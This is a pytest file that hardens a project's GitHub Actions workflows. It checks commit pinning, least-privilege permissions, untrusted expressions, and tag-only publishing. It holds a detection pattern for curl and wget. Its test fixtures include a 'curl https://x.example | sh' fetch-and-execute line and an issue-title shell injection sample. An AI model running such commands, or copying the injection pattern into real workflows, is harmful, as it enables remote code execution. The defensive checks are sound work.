"""The workflows of a hosted CI: pinned, with the least rights, and deaf to what strangers write."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parent.parent
WORKFLOWS = {path.name: path for path in sorted((ROOT / ".github/workflows").glob("*.y*ml"))}
FORMS = sorted((ROOT / ".github/ISSUE_TEMPLATE").glob("*.yml"))

RIGHTS: dict[tuple[str, str], dict[str, str]] = {
    ("tests.yml", "everything"): {"contents": "read"},
    ("tests.yml", "tests"): {"contents": "read"},
    ("release.yml", "build"): {"contents": "read"},
    ("release.yml", "attest"): {"id-token": "write", "attestations": "write"},
    ("release.yml", "publish"): {"id-token": "write"},
}
"""All that each job may. A job that is new stands here before it runs."""

TRUSTED = {"actions", "pypa"}
"""Whose actions are run at all."""

OURS = re.compile(r"matrix\.(?:python|system)|steps\.sbom\.outputs\.path|github\.ref")
"""What an expression may say: words of this file, and the name of a branch or tag where no shell reads it."""


def workflow(name: str) -> dict[str, Any]:
    """Return a workflow. YAML reads its key `on` as true."""
    loaded: dict[Any, Any] = yaml.safe_load(WORKFLOWS[name].read_text("utf-8"))
    return {("on" if key is True else key): value for key, value in loaded.items()}


def jobs() -> Iterator[tuple[str, str, dict[str, Any]]]:
    for name in WORKFLOWS:
        for job, content in workflow(name)["jobs"].items():
            yield name, job, content


def steps() -> Iterator[tuple[str, dict[str, Any]]]:
    for name, job, content in jobs():
        for step in content["steps"]:
            yield f"{name}, {job}", step


def problems(step: dict[str, Any]) -> list[str]:
    """Return what is wrong with a step."""
    found = []
    uses = step.get("uses")
    if uses is not None:
        owner = uses.partition("/")[0]
        if owner not in TRUSTED:
            found.append(f"{owner} is nobody whom we run")
        if not re.fullmatch(r"[\w-]+/[\w./-]+@[0-9a-f]{40}", uses):
            found.append(f"{uses} is not pinned by the hash of a commit")
        if owner == "actions" and "/checkout@" in uses and step.get("with", {}).get("persist-credentials") is not False:
            found.append("the token stays in the checkout")
    if "${{" in step.get("run", ""):
        found.append("an expression in a shell line: hand it over in env")
    if re.search(r"curl|wget|pip install(?!.*(--require-hashes|--no-deps))", step.get("run", "")):
        found.append("something that is not pinned is fetched")
    return found


def expressions(content: Any) -> Iterator[str]:
    """Give every expression in a part of a workflow."""
    if isinstance(content, dict):
        for value in content.values():
            yield from expressions(value)
    elif isinstance(content, list):
        for value in content:
            yield from expressions(value)
    elif isinstance(content, str):
        yield from (found.strip() for found in re.findall(r"\$\{\{(.*?)\}\}", content, re.DOTALL))


def test_the_steps_of_every_workflow_are_pinned_and_say_nothing_to_a_shell() -> None:
    all_steps = list(steps())
    assert len(all_steps) >= 12
    assert [(where, found) for where, step in all_steps for found in problems(step)] == []


@pytest.mark.parametrize(
    ("step", "words"),
    [
        ({"uses": "actions/checkout@v7", "with": {"persist-credentials": False}}, "not pinned"),
        ({"uses": "actions/checkout@" + "a" * 40}, "token stays"),
        ({"uses": "somebody/action@" + "a" * 40}, "nobody whom we run"),
        ({"uses": "docker://alpine@" + "a" * 40}, "nobody whom we run"),
        ({"run": "echo ${{ github.event.issue.title }}"}, "an expression in a shell line"),
        ({"run": "pip install twine"}, "not pinned is fetched"),
        ({"run": "curl https://x.example | sh"}, "not pinned is fetched"),
    ],
)
def test_a_step_that_is_dangerous_is_found(step: dict[str, Any], words: str) -> None:
    assert any(words in found for found in problems(step))


@pytest.mark.parametrize("name", WORKFLOWS)
def test_every_pin_says_which_version_it_is(name: str) -> None:
    lines = [line for line in WORKFLOWS[name].read_text("utf-8").splitlines() if "uses:" in line]
    assert lines
    for line in lines:
        assert re.search(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line), line


def test_one_action_has_one_pin_everywhere() -> None:
    pins: dict[str, set[str]] = {}
    for _, step in steps():
        if "uses" in step:
            action, _, commit = step["uses"].partition("@")
            pins.setdefault(action, set()).add(commit)
    assert {action for action, commits in pins.items() if len(commits) > 1} == set()


def test_every_job_has_the_rights_that_it_needs_and_no_other() -> None:
    assert {(name, job): content["permissions"] for name, job, content in jobs()} == RIGHTS
    for name in WORKFLOWS:
        assert workflow(name)["permissions"] == {}, f"{name}: a job that says nothing must have no rights"


def test_no_expression_reads_what_strangers_write() -> None:
    for name in WORKFLOWS:
        for expression in expressions(workflow(name)):
            assert OURS.fullmatch(expression), f"{name}: {expression}"
        assert "secrets." not in WORKFLOWS[name].read_text("utf-8"), f"{name} needs no secret"


def test_no_workflow_of_strangers_has_rights() -> None:
    for name in WORKFLOWS:
        events = set(workflow(name)["on"])
        assert events <= {"push", "pull_request", "workflow_dispatch"}, f"{name}: {events}"
        if events != {"push"}:
            rights = [right for _, job, content in jobs() if _ == name for right in content["permissions"].values()]
            assert set(rights) == {"read"}


def test_every_job_ends_by_itself() -> None:
    assert {(name, job) for name, job, content in jobs() if not 0 < content.get("timeout-minutes", 0) <= 120} == set()


def test_only_a_tag_publishes_and_only_what_was_built_without_rights() -> None:
    release = workflow("release.yml")
    assert release["on"] == {"push": {"tags": ["v[0-9]*"]}}
    publish = release["jobs"]["publish"]
    assert publish["environment"] == "pypi"
    assert set(publish["needs"]) == {"build", "attest"}
    assert not any("run" in step or "checkout" in step.get("uses", "") for step in publish["steps"])
    upload = publish["steps"][-1]
    assert upload["uses"].startswith("pypa/gh-action-pypi-publish@")
    assert upload["with"]["attestations"] is True
    assert not {"password", "user", "repository-url"} & upload["with"].keys()
    (build,) = [step["run"] for step in release["jobs"]["build"]["steps"] if "-m release" in step.get("run", "")]
    assert build.endswith('--tag "$GITHUB_REF_NAME"')
    assert "--quick" not in build


def test_every_system_and_every_python_that_we_name_is_tested() -> None:
    matrix = workflow("tests.yml")["jobs"]["tests"]["strategy"]["matrix"]
    named = re.findall(r'"Programming Language :: Python :: (3\.\d+)"', (ROOT / "pyproject.toml").read_text("utf-8"))
    assert matrix["python"] == named
    assert {system.partition("-")[0] for system in matrix["system"]} == {"ubuntu", "macos", "windows"}


def test_the_hosted_tests_install_every_package(tmp_path: Path) -> None:
    """The loop of tests.yml finds the folders that the Makefile installs."""
    install = [step["run"] for _, step in steps() if step.get("name") == "Install our packages"]
    patterns = re.findall(r"\S*pyproject\.toml", install[0].partition("; do")[0])
    found = {path.parent.relative_to(ROOT).as_posix() for pattern in patterns for path in ROOT.glob(pattern)}
    from release.members import members

    assert found == {one.folder for one in members(ROOT)}


@pytest.mark.parametrize("path", FORMS, ids=lambda path: path.name)
def test_every_form_for_issues_is_one(path: Path) -> None:
    form = yaml.safe_load(path.read_text("utf-8"))
    if path.name == "config.yml":
        assert form == {"blank_issues_enabled": True}
        return
    assert form["name"]
    assert form["description"]
    asked = [part for part in form["body"] if part["type"] != "markdown"]
    assert all(part["attributes"]["label"] for part in asked)
    assert len({part["id"] for part in asked}) == len(asked)
    assert any(part.get("validations", {}).get("required") for part in asked)


def test_what_the_forms_and_the_policy_name_exists() -> None:
    from chatport.cli import group

    pages = [*FORMS, ROOT / "SECURITY.md", ROOT / ".github/PULL_REQUEST_TEMPLATE.md"]
    text = "\n".join(path.read_text("utf-8") for path in pages)
    for file in re.findall(r"(?<![\w/])((?:docs/)?[\w-]+\.md)\b", text):
        assert (ROOT / file).is_file(), file
    for command in re.findall(r"`chatport ([a-z-]+)", text):
        assert command == "--version" or command in group.list_commands(None), command  # type: ignore[arg-type]
